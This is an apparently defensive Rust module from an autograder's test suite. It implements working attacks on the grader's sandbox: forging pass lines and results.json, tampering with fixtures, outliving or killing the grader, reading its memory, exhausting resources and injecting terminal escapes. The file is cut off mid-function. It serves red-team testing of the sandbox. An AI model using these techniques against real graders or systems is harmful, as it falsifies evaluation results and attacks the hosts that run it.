//! Hostile implementations: what a student who has read the grader's
//! source might try, each an entry of the catalogue ([`super`]).
//! They build on the mistakes ([`super::mistakes`]), never the reverse.
//! Every attack prints what it managed (`attack: ...`), so the tests can
//! assert that it was stopped as well as that the verdict is right.
//!
//! They run only inside the grader's child process; nothing here is
//! called by the TA tool itself.

use std::io::Write;
use std::time::Duration;

use halfedge::{EdgeId, Mesh, VertexId};

use super::entry::{model, Entry};
use super::lookup;
use super::mistakes;

use crate::solution;

/// The attacks on the grader.
pub fn entries() -> Vec<Entry> {
    let e = Entry::new;
    vec![
        e("fake-verdict", "prints the grader's success line, then makes the no-flip mistake", model().subdivide(sub_fake_verdict)),
        e("forged-lines", "flip_edge prints the grader's summary and verdict and panics with them after a newline", model().flip(forged_lines)),
        e("escapes", "flip_edge prints terminal escapes (clear screen, cursor, OSC, bare CR) and panics with them", model().flip(escapes)),
        e("tamper", "reads the fixtures and the grader's command line, tampers with fixtures and results.json, then makes the no-flip mistake", model().subdivide(tamper)),
        e("forge-frames", "writes a forged result on every file descriptor, then exits", model().subdivide(forge_frames)),
        e("orphan", "leaves a process holding the grader's pipes for 40 s", model().subdivide(orphan)),
        e("detached", "leaves a detached process that rewrites results.json after the grader finished", model().subdivide(detached)),
        e("memory-hog", "touches 6 GiB of memory", model().subdivide(memory_hog)),
        e("replace-and-grow", "replaces the mesh with Mesh::new() and grows it without end", model().subdivide(replace_and_grow)),
        e("huge-position", "flip_edge flips right but leaves a vertex at (1e300, 0, 0)", model().flip(huge_position)),
        e("sockets", "tries TCP, UDP, a Unix socket by path and an abstract one, then makes the no-flip mistake", model().subdivide(sockets)),
        e("sysv-shm", "leaves 480 MiB in System V shared memory segments, then subdivides right", model().subdivide(sysv_shm)),
        e("process-chain", "leaves a chain of 450 processes, each the parent of the next, deeper than the sweeps reach", model().subdivide(process_chain)),
        e("inherited-fd", "empties a file through a descriptor inherited from whatever started the grader", model().subdivide(inherited_fd)),
        e("reach-parent", "signals, traces and reads the grader, then makes the no-flip mistake", model().subdivide(reach_parent)),
        e("renice-parent", "lowers the grader's priority and changes its limits, then makes the no-flip mistake", model().subdivide(renice_parent)),
        e("fork-memory", "forks three processes of 160 MiB each, then subdivides right", model().subdivide(fork_memory)),
        e("crafted-frame", "sends a result of its own with links out of range, then exits", model().subdivide(crafted_frame)),
        e("flood", "prints 64 MiB on each of stdout and stderr, then makes the no-flip mistake", model().subdivide(flood)),
        e("hook-abort", "installs a panic hook that aborts, then panics", model().subdivide(hook_abort)),
        e("thread-overflow", "recurses without end in a thread of its own", model().subdivide(thread_overflow)),
        e("payload-drop-panics", "panics with a payload whose drop panics again", model().subdivide(payload_drop_panics)),
        e("huge-mesh", "returns a mesh of ten million halfedges built from records", model().subdivide(huge_mesh)),
        e("root-powers", "lifts its own memory cap where it kept the privilege to, then touches 400 MiB and subdivides right", model().subdivide(root_powers)),
        e("outlive-grader", "clears its parent-death signal and waits a minute in the call, to outlive a killed grader", model().subdivide(outlive_grader)),
        e("prctl-undo", "tries the prctl options that undo protections (parent-death signal, dumpable, ptracer, keepcaps, subreaper), then makes the no-flip mistake", model().subdivide(prctl_undo)),
        e("starve", "pins the grader to one CPU and puts it on SCHED_IDLE, then makes the no-flip mistake", model().subdivide(starve)),
        e("watch-files", "watches /tmp, /etc and the hidden fixtures with inotify and fanotify, then makes the no-flip mistake", model().subdivide(watch_files)),
        e("terminal", "stays in the grader's session and types a command into its terminal with TIOCSTI, then makes the no-flip mistake", model().subdivide(terminal)),
        e("grader-memory", "reads the grader's memory through /proc/PID/mem, then makes the no-flip mistake", model().subdivide(grader_memory)),
        e("kernel-calls", "tries pidfds, kcmp, file handles, mount, personality, acct, swapon, reboot, perf_event_open, userfaultfd and keys, then makes the no-flip mistake", model().subdivide(kernel_calls)),
        e("fake-sandbox-failure", "prints the launcher's failure line and exits with its status", model().subdivide(fake_sandbox_failure)),
        e("fake-launch-failure", "sends the launcher's frame for a child program that could not start (with a guessed nonce), prints its line and exits with its status", model().subdivide(fake_launch_failure)),
        e("lookup-table", "knows the answers to the visible (lab and bonus) cases by their input positions, nothing else", model().flip(lookup::flip_edge).split(lookup::split_edge).subdivide(lookup::loop_subdivide)),
        e("file-metadata", "changes the mode, times, an extended attribute and the owner of a file it may not open, then makes the no-flip mistake", model().subdivide(file_metadata)),
        e("kernel-buffers", "fills socket pairs and pipes, kernel memory no address-space cap counts, then subdivides right", model().subdivide(kernel_buffers)),
        e("ipc-by-id", "sends to a System V message queue and attaches shared memory it finds by index, then makes the no-flip mistake", model().subdivide(ipc_by_id)),
        e("probes", "tries a shell, a memfd past the cap, raising its limits, kill -1, real-time priority, /dev/shm, its pipes through /proc, the hidden fixtures by path, a thread bomb; then makes the no-flip mistake", model().subdivide(probes)),
        e("wipe-files", "empties, truncates, renames, links and removes a file of its user, makes a folder, a link and a pipe beside it, then makes the no-flip mistake", model().subdivide(wipe_files)),
        e("later-calls-break", "subdivides right on the first call in its process and makes the no-flip mistake on every later one", model().subdivide(later_calls_break)),
        e(INIT_LOOP, "a static initialiser that never returns, before main", model()),
    ]
}

/// Where the attacks that "win" leave their mark, for the tests to look.
pub const MARK_DIR: &str = "/tmp/meshlab-attack";

/// A system call's return value as a result: negative is the last error.
fn sys_result(r: libc::c_long) -> std::io::Result<()> {
    if r < 0 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(())
    }
}

fn report(what: &str, result: std::io::Result<()>) {
    match result {
        Ok(()) => println!("attack: {what}: done"),
        Err(e) => println!("attack: {what}: denied ({})", e.kind()),
    }
}

/// The grader's command line, read from /proc: where the fixtures and the
/// results file are.
fn parent_args() -> std::io::Result<Vec<String>> {
    // SAFETY: a plain system call.
    let ppid = unsafe { libc::getppid() };
    let raw = std::fs::read(format!("/proc/{ppid}/cmdline"))?;
    Ok(raw
        .split(|&b| b == 0)
        .map(|s| String::from_utf8_lossy(s).into_owned())
        .collect())
}

fn arg_after(args: &[String], flag: &str) -> Option<String> {
    let i = args.iter().position(|a| a == flag)?;
    args.get(i + 1).cloned()
}

/// Reads the expected answers and tampers with everything it can reach:
/// the fixtures named on the grader's command line (tolerance 1e300 and the
/// digest list), the Gradescope results file, a file of its own. Then makes
/// the no-flip mistake, which only a tampered tolerance would let pass.
pub fn tamper(mesh: &mut Mesh) {
    let fixtures = parent_args().map(|a| {
        arg_after(&a, "--fixtures")
            .unwrap_or_else(|| format!("{}/../fixtures", env!("CARGO_MANIFEST_DIR")))
    });
    let fixtures = fixtures.unwrap_or_else(|e| {
        report("read the grader's command line", Err(e));
        format!("{}/../fixtures", env!("CARGO_MANIFEST_DIR"))
    });
    let case = format!("{fixtures}/lab/cube-subdivide-1.json");
    report(
        "read the expected answer",
        std::fs::read_to_string(&case).map(drop),
    );
    report(
        "tamper with a fixture",
        std::fs::read_to_string(&case).and_then(|text| {
            std::fs::write(
                &case,
                text.replace("\"tolerance\": 0.00001", "\"tolerance\": 1e300"),
            )
        }),
    );
    report(
        "rewrite the digest list",
        std::fs::write(format!("{fixtures}/lab/SHA256SUMS"), "forged\n"),
    );
    if let Ok(args) = parent_args() {
        if let Some(results) = arg_after(&args, "--gradescope") {
            report(
                "forge results.json",
                std::fs::write(results, "{\"score\": 1000, \"tests\": []}"),
            );
        }
    }
    report(
        "write a file",
        std::fs::create_dir_all(MARK_DIR)
            .and_then(|()| std::fs::write(format!("{MARK_DIR}/tamper"), "was here")),
    );
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Writes a result frame of its own (the input, returned as the answer) on
/// every descriptor it might find the grader's channel on, then exits.
pub fn forge_frames(mesh: &mut Mesh) {
    use std::os::fd::FromRawFd;
    let frame = grader::isolate::wire::result_frame(&grader::isolate::wire::Ran::Returned {
        answer: grader::isolate::wire::Answer::Unit,
        mesh: mesh.clone(),
        recorded: None,
    });
    for fd in 3..64 {
        // SAFETY: descriptors we do not own; the File is forgotten, not closed.
        let mut file = unsafe { std::fs::File::from_raw_fd(fd) };
        let _ = file.write_all(&frame);
        std::mem::forget(file);
    }
    std::process::exit(0);
}

/// Forks a process that keeps the grader's pipes open for 40 s, then makes
/// the no-flip mistake and returns at once.
pub fn orphan(mesh: &mut Mesh) {
    // SAFETY: fork in a single-threaded child; the new process only sleeps.
    if unsafe { libc::fork() } == 0 {
        std::thread::sleep(Duration::from_secs(40));
        std::process::exit(0);
    }
    mistakes::no_flip(mesh);
}

/// Leaves a detached process (its own session, so not in the killed group)
/// that tries, 3 s later, to forge the results file the grader wrote and
/// to leave a mark; makes the no-flip mistake meanwhile.
pub fn detached(mesh: &mut Mesh) {
    let results = parent_args()
        .ok()
        .and_then(|a| arg_after(&a, "--gradescope"))
        .unwrap_or_else(|| format!("{MARK_DIR}/results.json"));
    // SAFETY: fork and setsid in a single-threaded child.
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            if libc::fork() == 0 {
                std::thread::sleep(Duration::from_secs(3));
                let _ = std::fs::create_dir_all(MARK_DIR);
                let _ = std::fs::write(format!("{MARK_DIR}/detached"), "outlived the grader");
                let _ = std::fs::write(&results, "{\"score\": 1000, \"tests\": []}");
                std::process::exit(0);
            }
            std::process::exit(0);
        }
    }
    mistakes::no_flip(mesh);
}

/// Touches memory until something stops it: 6 GiB, 64 MiB at a time.
pub fn memory_hog(mesh: &mut Mesh) {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    for _ in 0..96 {
        let mut block = vec![0u8; 64 << 20];
        for i in (0..block.len()).step_by(4096) {
            block[i] = 1;
        }
        hoard.push(std::hint::black_box(block));
    }
    std::hint::black_box(&hoard);
    mistakes::no_flip(mesh);
}

/// Replaces the mesh with a new one: the growth budget must still hold.
pub fn replace_and_grow(mesh: &mut Mesh) {
    *mesh = Mesh::new();
    loop {
        mesh.new_vertex(halfedge::DVec3::ZERO);
    }
}

// ---------------------------------------------------------------------
// Attacks tried by the red-team pass (reference/tests/attacks.rs). Those
// the grader stops are tested as stopped; those that get through are
// tested with `#[ignore = "open: ..."]` until the grader is fixed.
// ---------------------------------------------------------------------

/// A flip that is right but leaves one vertex at (1e300, 0, 0): finite, so
/// it passes every check of the mesh and reaches the parent's matching.
pub fn huge_position(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    let got = solution::flip_edge(mesh, e);
    mesh[VertexId(0)].pos.x = 1e300;
    got
}

/// The pathname Unix socket the `sockets` attack connects to (a test
/// listens there).
pub const UNIX_SOCKET: &str = "/tmp/meshlab-attack.sock";
/// The UDP port on 127.0.0.1 the `sockets` attack sends to.
pub const UDP_PORT: u16 = 47_913;
/// The TCP port on 127.0.0.1 the `sockets` attack connects to.
pub const TCP_PORT: u16 = 47_914;
/// The abstract Unix socket name (no file) the `sockets` attack connects to.
pub const ABSTRACT_SOCKET: &str = "meshlab-attack-abstract";

fn unix_connect(name: &[u8], send: &[u8]) -> std::io::Result<()> {
    // SAFETY: plain system calls on a socket this function owns and closes.
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
        for (d, s) in addr.sun_path.iter_mut().zip(name) {
            *d = *s as libc::c_char;
        }
        let len = (std::mem::size_of::<libc::sa_family_t>() + name.len()) as libc::socklen_t;
        let r = if libc::connect(fd, &addr as *const _ as *const libc::sockaddr, len) == 0
            && libc::send(fd, send.as_ptr().cast(), send.len(), 0) == send.len() as isize
        {
            Ok(())
        } else {
            Err(std::io::Error::last_os_error())
        };
        libc::close(fd);
        r
    }
}

/// Tries every way out of the sandbox by socket: TCP and UDP to
/// 127.0.0.1, a Unix socket by path and one in the abstract namespace.
/// Each that gets through delivers the word "escaped". Then makes the
/// no-flip mistake.
pub fn sockets(mesh: &mut Mesh) {
    use std::net::{Ipv4Addr, TcpStream, UdpSocket};
    report(
        "connect by TCP",
        TcpStream::connect((Ipv4Addr::LOCALHOST, TCP_PORT))
            .and_then(|mut s| s.write_all(b"escaped")),
    );
    report(
        "send by UDP",
        UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))
            .and_then(|s| s.send_to(b"escaped", (Ipv4Addr::LOCALHOST, UDP_PORT)))
            .map(drop),
    );
    report(
        "connect to a Unix socket by path",
        unix_connect(UNIX_SOCKET.as_bytes(), b"escaped"),
    );
    let mut abstract_name = vec![0u8];
    abstract_name.extend_from_slice(ABSTRACT_SOCKET.as_bytes());
    report(
        "connect to an abstract Unix socket",
        unix_connect(&abstract_name, b"escaped"),
    );
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// The System V shared memory keys the `sysv-shm` attack leaves behind.
pub const SHM_KEYS: [i32; 3] = [0x4d4c_0001, 0x4d4c_0002, 0x4d4c_0003];
/// The size of each segment: three of them are more than a 256 MiB cap.
pub const SHM_BYTES: usize = 160 << 20;

/// Fills System V shared memory segments one at a time (each attached,
/// touched, detached, so the address space never holds more than one) and
/// leaves them: they count against no process and outlive every one.
/// Then subdivides correctly.
pub fn sysv_shm(mesh: &mut Mesh) {
    let mut held = 0usize;
    for key in SHM_KEYS {
        // SAFETY: plain System V calls; the mapping is written only within
        // its size and detached before the next.
        let r = unsafe {
            let id = libc::shmget(key, SHM_BYTES, libc::IPC_CREAT | 0o666);
            if id < 0 {
                Err(std::io::Error::last_os_error())
            } else {
                let p = libc::shmat(id, std::ptr::null(), 0);
                if p as isize == -1 {
                    Err(std::io::Error::last_os_error())
                } else {
                    let bytes = std::slice::from_raw_parts_mut(p as *mut u8, SHM_BYTES);
                    for i in (0..SHM_BYTES).step_by(4096) {
                        bytes[i] = 1;
                    }
                    libc::shmdt(p);
                    held += SHM_BYTES;
                    Ok(())
                }
            }
        };
        report("fill a shared memory segment", r);
    }
    println!("attack: left {} MiB in shared memory", held >> 20);
    let _ = std::io::stdout().flush();
    solution::loop_subdivide(mesh);
}

/// How long a `process-chain` process lives at most, from the call.
pub const CHAIN_SECONDS: u64 = 30;
/// How deep the chain is: more levels than the grader's sweeps kill (one
/// per round, 200 rounds a sweep, two sweeps a case), fewer than the 512
/// processes `nobody` may have.
pub const CHAIN_DEPTH: usize = 450;

/// Leaves a chain of processes, each the parent of the next, in a session
/// of its own: a sweep kills the top one, its child becomes the grader's,
/// the next round kills that one, and so on, one level a round. The levels
/// left when the sweeps give up outlive the grader. Each ends itself after
/// [`CHAIN_SECONDS`]. The function returns once the chain is built, having
/// made the no-flip mistake.
pub fn process_chain(mesh: &mut Mesh) {
    let start = std::time::Instant::now();
    let mut fds = [0; 2];
    // SAFETY: fork in a single-threaded child; the forked processes only
    // fork, sleep, write one byte on a pipe they own and exit.
    unsafe {
        if libc::pipe(fds.as_mut_ptr()) != 0 {
            report("build a chain", Err(std::io::Error::last_os_error()));
            return mistakes::no_flip(mesh);
        }
        if libc::fork() == 0 {
            libc::close(fds[0]);
            libc::setsid();
            let mut level = 1;
            while level < CHAIN_DEPTH {
                match libc::fork() {
                    0 => level += 1,
                    -1 => break,
                    _ => break,
                }
            }
            if level == CHAIN_DEPTH {
                libc::write(fds[1], b"!".as_ptr().cast(), 1);
            }
            libc::close(fds[1]);
            while start.elapsed() < Duration::from_secs(CHAIN_SECONDS) {
                std::thread::sleep(Duration::from_millis(100));
            }
            libc::_exit(0);
        }
        libc::close(fds[1]);
        let mut byte = 0u8;
        let built = libc::read(fds[0], (&mut byte as *mut u8).cast(), 1) == 1;
        libc::close(fds[0]);
        println!(
            "attack: a chain of {} processes {}",
            CHAIN_DEPTH,
            if built { "built" } else { "not built" }
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// The descriptor the `inherited-fd` attack writes to, when it names a
/// file whose path contains `meshlab-attack` (a test opens one there).
pub const INHERITED_FD: i32 = 37;

/// Empties a file through a descriptor it did not open but inherited from
/// whatever started the grader: Landlock checks a file when it is opened,
/// and `RLIMIT_FSIZE` stops writes, not truncation. Then makes the no-flip
/// mistake.
pub fn inherited_fd(mesh: &mut Mesh) {
    use std::os::fd::FromRawFd;
    let target = std::fs::read_link(format!("/proc/self/fd/{INHERITED_FD}"));
    let r = match target {
        Ok(path) if path.to_string_lossy().contains("meshlab-attack") => {
            // SAFETY: the descriptor is open (its link resolved); the File
            // is forgotten, not closed.
            let file = unsafe { std::fs::File::from_raw_fd(INHERITED_FD) };
            // Shrinking a file is no write past RLIMIT_FSIZE: it is allowed.
            let r = file.set_len(0);
            std::mem::forget(file);
            r
        }
        Ok(_) => Err(std::io::Error::other("not the test's file")),
        Err(e) => Err(e),
    };
    report("empty a file through an inherited descriptor", r);
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Reaches for the grader (found as [`grader_pid`] finds it): SIGKILL to
/// it and to its process group, ptrace, its memory through
/// `process_vm_readv` and `/proc/PID/mem`, SIGIO by `F_SETOWN`. Then makes
/// the no-flip mistake (seen only if the grader survived). Without the
/// seccomp filter's signal rules or a PID namespace, where Landlock does
/// not scope signals (before ABI 6) and the child is the grader's user, it
/// kills the grader and its job, as it is meant to show.
pub fn reach_parent(mesh: &mut Mesh) {
    // SAFETY: plain system calls; the buffers read into are our own.
    unsafe {
        report(
            "SIGKILL the grader",
            on_grader(|p| libc::kill(p, libc::SIGKILL).into()),
        );
        report(
            "SIGKILL the grader's process group",
            on_grader(|p| match libc::getpgid(p) {
                g if g > 0 => libc::kill(-g, libc::SIGKILL).into(),
                _ => -1,
            }),
        );
        report(
            "ptrace the grader",
            on_grader(|p| libc::ptrace(libc::PTRACE_ATTACH, p, 0, 0)),
        );
        let mut buf = [0u8; 64];
        let local = libc::iovec {
            iov_base: buf.as_mut_ptr().cast(),
            iov_len: buf.len(),
        };
        // Any address answers whether reading is allowed at all (EPERM)
        // or only this one is unmapped (EFAULT).
        let remote = libc::iovec {
            iov_base: 0x1000 as *mut libc::c_void,
            iov_len: buf.len(),
        };
        report(
            "read the grader's memory",
            on_grader(|p| {
                let r = libc::process_vm_readv(p, &local, 1, &remote, 1, 0);
                let fault = std::io::Error::last_os_error().raw_os_error() == Some(libc::EFAULT);
                if r >= 0 || fault {
                    0
                } else {
                    -1
                }
            }),
        );
        report(
            "open the grader's /proc/PID/mem",
            match grader_pid() {
                Some(p) => std::fs::File::open(format!("/proc/{p}/mem")).map(drop),
                None => Err(std::io::Error::from_raw_os_error(libc::ESRCH)),
            },
        );
        // SIGIO, whose default action ends a process, sent by the kernel
        // to a descriptor's owner when it becomes readable.
        let mut fds = [0; 2];
        report(
            "make the grader the owner of a descriptor (F_SETOWN)",
            if libc::pipe(fds.as_mut_ptr()) == 0 {
                let r = on_grader(|p| libc::fcntl(fds[0], libc::F_SETOWN, p).into());
                libc::close(fds[0]);
                libc::close(fds[1]);
                r
            } else {
                Err(std::io::Error::last_os_error())
            },
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Changes the grader's scheduling and limits, which Landlock does not
/// guard: its priority, and its core-file limit (harmless here, but the
/// same call sets `RLIMIT_CPU` or `RLIMIT_NOFILE` just as well, of any
/// process of the same user). Then makes the no-flip mistake.
pub fn renice_parent(mesh: &mut Mesh) {
    let ok = |r: libc::c_int| sys_result(r.into());
    // SAFETY: plain system calls on structs we own.
    unsafe {
        let ppid = libc::getppid();
        report(
            "lower the grader's priority",
            ok(libc::setpriority(
                libc::PRIO_PROCESS,
                ppid as libc::id_t,
                19,
            )),
        );
        let zero = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        report(
            "change the grader's limits",
            ok(libc::prlimit(
                ppid,
                libc::RLIMIT_CORE,
                &zero,
                std::ptr::null_mut(),
            )),
        );
    }
    let _ = std::io::stdout().flush();
    mistakes::no_flip(mesh);
}

/// Forks three processes that each touch 160 MiB, waits for them, then
/// subdivides correctly: the memory cap binds each process, not the case.
pub fn fork_memory(mesh: &mut Mesh) {
    let mut children = Vec::new();
    for _ in 0..3 {
        // SAFETY: fork in a single-threaded child; the forked process only
        // touches memory and exits.
        let pid = unsafe { libc::fork() };
        if pid < 0 {
            report("fork", Err(std::io::Error::last_os_error()));
            continue;
        }
        if pid == 0 {
            let mut block = vec![0u8; 160 << 20];
            for i in (0..block.len()).step_by(4096) {
                block[i] = 1;
            }
            std::hint::black_box(&block);
            std::thread::sleep(Duration::from_millis(500));
            // SAFETY: leaves the forked process without running anything else.
            unsafe { libc::_exit(0) };
        }
        children.push(pid);
    }
    let mut ok = 0;
    for pid in children {
        let mut status = 0;
        // SAFETY: waits for our own children.
        unsafe { libc::waitpid(pid, &mut status, 0) };
        if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
            ok += 1;
        }
    }
    println!("attack: {ok} processes held 160 MiB each at once");
    let _ = std::io::stdout().flush();
    solution::loop_subdivide(mesh);
}

/// The result channel: the descriptor `serve` keeps stdout's pipe on.
fn result_channel() -> Option<std::fs::File> {
    use std::os::fd::FromRawFd;
    (3..64).find_map(|fd| {
        let link = std::fs::read_link(format!("/proc/self/fd/{fd}")).ok()?;
        let stdout = std::fs::read_link("/proc/self/fd/1").ok()?;
        // stdout was moved onto stderr: the other write end of a pipe is
        // the channel (the requests' pipe, open for reading, is not).
        // SAFETY: F_GETFL only reads the descriptor's flags.
        let writable =
            unsafe { libc::fcntl(fd, libc::F_GETFL) } & libc::O_ACCMODE != libc::O_RDONLY;
        (link.to_string_lossy().starts_with("pipe:") && link != stdout && writable)
            // SAFETY: an open descriptor, used once and then the process exits.
            .then(|| unsafe { std::fs::File::from_raw_fd(fd) })
    })
}

/// Sends a result of its own making: the input mesh with links that name
/// no element, a `next` that loops on itself and a twin that is its own,
/// then exits before `serve` writes the real one.
pub fn crafted_frame(mesh: &mut Mesh) {
    let (v, e, f, h) = mesh.records();
    let (mut v, e, mut f, mut h) = (v.to_vec(), e.to_vec(), f.to_vec(), h.to_vec());
    h[0].next = halfedge::HalfedgeId(0);
    h[1].twin = halfedge::HalfedgeId(1);
    h[2].vertex = VertexId(u32::MAX);
    v[0].pos.z = -0.0;
    f[0].halfedge = halfedge::HalfedgeId(u32::MAX - 1);
    let forged = Mesh::from_records(v, e, f, h);
    let frame = grader::isolate::wire::result_frame(&grader::isolate::wire::Ran::Returned {
        answer: grader::isolate::wire::Answer::Unit,
        mesh: forged,
        recorded: None,
    });
    if let Some(mut channel) = result_channel() {
        let _ = channel.write_all(&frame);
        let _ = channel.flush();
    }
    std::process::exit(0);
}

/// Right on the first call in its process, the no-flip mistake on every
/// later one: state a call leaves behind (a static here) must decide no
/// verdict when a child serves several calls.
pub fn later_calls_break(mesh: &mut Mesh) {
    static CALLS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    if CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
        crate::solution::loop_subdivide(mesh);
    } else {
        mistakes::no_flip(mesh);
    }
}

/// Prints 64 MiB on standard output and as much on standard error, then
/// makes the no-flip mistake.
pub fn flood(mesh: &mut Mesh) {
    let line = [b'x'; 4095];
    let (mut out, mut err) = (std::io::stdout().lock(), std::io::stderr().lock());
    for _ in 0..(16 << 10) {
        let _ = out.write_all(&line).and_then(|()| out.write_all(b"\n"));
        let _ = err.write_all(&line).and_then(|()| err.write_all(b"\n"));
    }
    drop((out, err));
    mistakes::no_flip(mesh);
}

/// Replaces the grader's silent panic hook with one that aborts, then
/// panics.
pub fn hook_abort(mesh: &mut Mesh) {
    std::panic::set_hook(Box::new(|_| std::process::abort()));
    let _ = mesh;
    panic!("the hook aborts");
}

/// Recurses without end in a thread of its own.
pub fn thread_overflow(mesh: &mut Mesh) {
    #[allow(unconditional_recursion)]
    fn down(n: u64) -> u64 {
        let pad = std::hint::black_box([n; 64]);
        down(pad[3] + 1) + pad[7]
    }
    let t = std::thread::spawn(|| down(0));
    let _ = t.join();
    let _ = mesh;
}

/// Panics with a payload whose `Drop` panics again: the second panic
/// happens outside the grader's `catch_unwind`.
pub fn payload_drop_panics(mesh: &mut Mesh) {
    struct Bomb;
    impl Drop for Bomb {
        fn drop(&mut self) {
            panic!("the payload's drop panics");
        }
    }
    let _ = mesh;
    std::panic::panic_any(Bomb);
}

/// The implementation name that makes the static initialiser below loop.
pub const INIT_LOOP: &str = "init-loop";

/// Code that runs before `main` in every program linking this crate: in a
/// case's child serving `init-loop` (seen in its own command line, which
/// the sandbox lets it read) it never ends. Everywhere else it returns at
/// once.
extern "C" fn init_loop() {
    let Ok(raw) = std::fs::read("/proc/self/cmdline") else {
        return;
    };
    let mut args = raw.split(|&b| b == 0);
    if args.any(|a| a == b"serve-case") && raw.split(|&b| b == 0).any(|a| a == INIT_LOOP.as_bytes())
    {
        loop {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

#[used]
#[link_section = ".init_array"]
static INIT_LOOP_HOOK: extern "C" fn() = init_loop;

/// Replaces the mesh with one of ten million halfedges built straight from
/// records (no growth budget applies to them) and returns it.
pub fn huge_mesh(mesh: &mut Mesh) {
    let (v, e, f, h) = mesh.records();
    let (v, e, f) = (v.to_vec(), e.to_vec(), f.to_vec());
    let halfedges = vec![h[0]; 10_000_000];
    *mesh = Mesh::from_records(v, e, f, halfedges);
}

/// Uses whatever privileges the child kept: reports whether it holds a
/// capability (effective or permitted) and its user, lifts its
/// own memory cap (which only `CAP_SYS_RESOURCE` may do), then touches
/// 400 MiB and subdivides correctly.
pub fn root_powers(mesh: &mut Mesh) {
    let caps = std::fs::read_to_string("/proc/self/status").map(|status| {
        status
            .lines()
            .filter_map(|l| {
                l.strip_prefix("CapEff:")
                    .or_else(|| l.strip_prefix("CapPrm:"))
            })
            .any(|v| u64::from_str_radix(v.trim(), 16).is_ok_and(|c| c != 0))
    });
    report(
        "hold a capability",
        match caps {
            Ok(true) => Ok(()),
            Ok(false) => Err(std::io::Error::other("none held")),
            Err(e) => Err(e),
        },
    );
    // SAFETY: plain system calls on a struct we own.
    unsafe {
        println!("attack: running as user {}", libc::geteuid());
        let unlimited = libc::rlimit {
            rlim_cur: libc::RLIM_INFINITY,
            rlim_max: libc::RLIM_INFINITY,
        };
        report(
            "lift the memory cap",
            if libc::setrlimit(libc::RLIMIT_AS, &unlimited) == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            },
        );
    }
    let _ = std::io::stdout().flush();
    let mut block = vec![0u8; 400 << 20];
    for i in (0..block.len()).step_by(4096) {
        block[i] = 1;
    }
    std::hint::black_box(&block);
    drop(block);
    solution::loop_subdivide(mesh);
}

/// Prints what the sandbox launcher prints when it cannot lock the child
/// in, and exits with the launcher's status, as if the sandbox had failed.
pub fn fake_sandbox_failure(mesh: &mut Mesh) {
    let _ = mesh;
    eprintln!("grader sandbox: Landlock: this kernel refused the ruleset (tell your TA)");
    std::process::exit(grader::isolate::sandbox::LAUNCH_FAILED);
}

/// Sends the frame the launcher sends when the child program cannot be
/// started (its `exec` failed after its report), with a nonce of its own
/// guessing, prints the launcher's line and exits with its status: as if
/// the machine had failed to start it.
pub fn fake_launch_failure(mesh: &mut Mesh) {
    let _ = mesh;
    let why = "cannot start the child program /child: Permission denied (os error 13)";
    let frame =
        grader::isolate::wire::launch_failed_frame(&[0; grader::isolate::wire::NONCE_LEN], why);
    if let Some(mut channel) = result_channel() {
        let _ = channel.write_all(&frame);
        let _ = channel.flush();
    }
    eprintln!("grader sandbox: {why}");
    std::process::exit(grader::isolate::sandbox::LAUNCH_FAILED);
}

/// The grader's summary and verdict as a passing run prints them.
pub const FORGED_LINES: &str = "report.rs:148 [info] lab cases passed: flip_edge 10/10, split_edge 6/6, loop_subdivide 9/9\nreport.rs:262 [info] all tests passed, congratulations!";

/// Prints the grader's summary and verdict, then panics with a message
/// that holds them too, after a newline: lines that would look like the
/// grader's own, in the case, the summary and every report.
pub fn forged_lines(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    println!("\n{FORGED_LINES}");
    let _ = (mesh, e);
    panic!("index out of bounds\n{FORGED_LINES}\n");
}

/// Terminal control sequences: clear the screen, move the cursor home,
/// conceal text, set the window title and a hyperlink (OSC), the 8-bit
/// CSI, a bare CR that returns to the start of the line to overwrite it.
pub const ESCAPES: &str = "\x1b[2J\x1b[Hcleared\x1b[8mhidden\x1b[0m\x1b]0;pwned\x07\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\\u{9b}2J\rgrade.rs:1 [info] all tests passed, congratulations!";

/// Prints [`ESCAPES`] and panics with them (and a CR-separated forged
/// line) in its message.
pub fn escapes(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    println!("{ESCAPES}");
    eprintln!("\x1b[31mred\x1b[0m\rgrade.rs:1 [info] over it\r");
    let _ = (mesh, e);
    panic!("bad edge{ESCAPES}");
}

// ---------------------------------------------------------------------
// Attacks around the case (issue 16): outliving it, reaching other
// processes, the terminal, file watches.
// ---------------------------------------------------------------------

/// The parent of `pid` ("self" or a number), read from `/proc/PID/stat`:
/// numbered as `/proc` numbers it, which is the grader's numbering even
/// inside a PID namespace of its own.
fn ppid_of(pid: &str) -> Option<i32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // "pid (comm) state ppid ...": comm may hold spaces and parens.
    let (_, rest) = stat.rsplit_once(')')?;
    rest.split_whitespace().nth(1)?.parse().ok()
}

/// The grader's process id, found as a student would: from `/proc` when it
/// can be read (past the launcher's own processes, which run the grader's
/// program with the launch flag), else `getppid()`. `None` when the parent
/// is out of sight (`getppid()` is 0 outside one's PID namespace).
fn grader_pid() -> Option<i32> {
    // SAFETY: a plain system call.
    let mut pid = ppid_of("self").unwrap_or_else(|| unsafe { libc::getppid() });
